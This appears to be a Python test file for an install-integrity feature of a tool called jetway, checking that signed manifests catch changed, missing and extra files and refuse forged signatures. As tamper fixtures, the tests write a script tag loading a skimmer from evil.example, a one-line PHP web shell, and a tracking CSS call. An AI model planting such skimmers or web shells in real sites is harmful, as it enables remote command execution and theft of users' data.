"""Install integrity (issue 12, part 5): `jetway manifest keygen` and `sign` make an Ed25519-signed manifest of the
SHA-256 of every file the install runs from (the binary, the web files, the data files, the firewall's rules), and
`jetway verify-install` names every changed, missing and extra file, and refuses a manifest that was edited or signed
with another key. The server's own check and its alert are in test_monitoring (AlertsTest)."""
import hashlib
import os
import shutil
import stat
import subprocess
import tempfile
import unittest

from jw import JETWAY_BIN, PG_OWNER_URL

WEB_DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "web")


@unittest.skipIf(PG_OWNER_URL, "the install's files are the same on either engine")
class VerifyInstallTest(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="jetway-integrity-")
        self.addCleanup(shutil.rmtree, self.dir, ignore_errors=True)
        self.web = os.path.join(self.dir, "web")
        shutil.copytree(WEB_DIR, self.web, symlinks=True)
        # A copy of the binary, so that a test can change it as an intruder would.
        self.binary = os.path.join(self.dir, "bin", "jetway")
        os.makedirs(os.path.dirname(self.binary))
        shutil.copy2(JETWAY_BIN, self.binary)
        self.key = os.path.join(self.dir, "signing.key")
        self.public = os.path.join(self.dir, "signing.pub")
        self.manifest = os.path.join(self.dir, "jetway.manifest")
        self.env = dict(os.environ, JETWAY_WEB_DIR=self.web, JETWAY_INTEGRITY_MANIFEST=self.manifest,
                        JETWAY_INTEGRITY_PUBLIC_KEY=self.public)
        self.env.pop("JETWAY_WAF_MODE", None)

    def jetway(self, *args):
        data_dir = [] if args[:2] == ("manifest", "keygen") else ["--data-dir", os.path.join(self.dir, "var")]
        return subprocess.run([self.binary, *args, *data_dir], env=self.env, capture_output=True, text=True,
                              timeout=120)

    def sign(self, key=None):
        if not os.path.exists(self.key):
            made = self.jetway("manifest", "keygen", "--private", self.key, "--public", self.public)
            self.assertEqual(made.returncode, 0, made.stderr)
        signed = self.jetway("manifest", "sign", "--key", key or self.key)
        self.assertEqual(signed.returncode, 0, signed.stderr)
        self.assertRegex(signed.stdout, r"^signed \d+ files into " + self.manifest + "\n$")
        return signed

    def test_keygen_makes_a_private_key_only_its_owner_reads_and_never_overwrites(self):
        made = self.jetway("manifest", "keygen", "--private", self.key, "--public", self.public)
        self.assertEqual(made.returncode, 0, made.stderr)
        self.assertRegex(made.stdout, r"public key  .*signing.pub SHA256:[0-9a-f]{32}\n")
        self.assertEqual(stat.S_IMODE(os.stat(self.key).st_mode), 0o600)
        with open(self.public) as f:
            self.assertRegex(f.read(), r"^jetway-ed25519-public [A-Za-z0-9+/]{43}=\n$")
        with open(self.key) as f:
            before = f.read()
        again = self.jetway("manifest", "keygen", "--private", self.key, "--public", self.public + "2")
        self.assertEqual(again.returncode, 2)
        self.assertIn("File exists", again.stderr)
        with open(self.key) as f:
            self.assertEqual(f.read(), before)

    def test_a_signed_install_verifies_and_every_change_is_named(self):
        self.sign()
        with open(self.manifest) as f:
            lines = f.read().splitlines()
        names = [line[66:] for line in lines[3:-1]]
        self.assertEqual(lines[0], "jetway-manifest 1")
        self.assertTrue(lines[-1].startswith("signature "))
        for expected in ("bin/jetway", "web/templates/layout.mustache", "web/waf/exclusions-after-crs.conf",
                         "data/airports.csv", "data/common-passwords.txt",
                         "crs/rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"):
            self.assertIn(expected, names)
        clean = self.jetway("verify-install")
        self.assertEqual(clean.returncode, 0, clean.stdout + clean.stderr)
        self.assertTrue(clean.stdout.endswith(f"install matches its signed manifest ({len(names)} files)\n"),
                        clean.stdout)

        with open(os.path.join(self.web, "templates", "layout.mustache"), "a") as f:
            f.write('<script src="https://evil.example/skimmer.js"></script>\n')
        os.remove(os.path.join(self.web, "waf", "exclusions-after-crs.conf"))
        with open(os.path.join(self.web, "static", "shell.php"), "w") as f:
            f.write("<?php system($_GET['c']); ?>\n")
        with open(self.binary, "ab") as f:
            f.write(b"\0backdoor")
        changed = self.jetway("verify-install")
        self.assertEqual(changed.returncode, 1, changed.stdout + changed.stderr)
        self.assertEqual(changed.stdout.splitlines()[1:], [
            "changed  bin/jetway",
            "changed  web/templates/layout.mustache",
            "missing  web/waf/exclusions-after-crs.conf",
            "extra    web/static/shell.php",
            f"4 of the manifest's {len(names)} files differ, or are not in it",
        ])

    def test_a_manifest_edited_to_match_or_signed_with_another_key_is_refused(self):
        self.sign()
        css = os.path.join(self.web, "static", "site.css")
        with open(css, "a") as f:
            f.write("body{background:url(https://evil.example/track)}\n")
        with open(css, "rb") as f:
            new_hash = hashlib.sha256(f.read()).hexdigest()
        with open(self.manifest) as f:
            text = f.read()
        old_line = next(line for line in text.splitlines() if line.endswith("  web/static/site.css"))
        with open(self.manifest, "w") as f:
            f.write(text.replace(old_line, f"{new_hash}  web/static/site.css"))
        edited = self.jetway("verify-install")
        self.assertEqual(edited.returncode, 2, edited.stdout)
        self.assertIn("the manifest's signature does not verify with this public key", edited.stderr)

        other_key = os.path.join(self.dir, "intruder.key")
        made = self.jetway("manifest", "keygen", "--private", other_key, "--public", other_key + ".pub")
        self.assertEqual(made.returncode, 0, made.stderr)
        self.sign(key=other_key)
        resigned = self.jetway("verify-install")
        self.assertEqual(resigned.returncode, 2, resigned.stdout)
        self.assertIn("signature does not verify", resigned.stderr)

    def test_nothing_to_check_against_is_an_error_not_a_pass(self):
        self.env.pop("JETWAY_INTEGRITY_MANIFEST")
        self.env.pop("JETWAY_INTEGRITY_PUBLIC_KEY")
        result = self.jetway("verify-install")
        self.assertEqual(result.returncode, 2)
        self.assertIn("no manifest to check against", result.stderr)
        missing = self.jetway("verify-install", "--manifest", self.manifest, "--public-key", self.public)
        self.assertEqual(missing.returncode, 2)
        self.assertIn("cannot read the public key", missing.stderr)


if __name__ == "__main__":
    unittest.main()
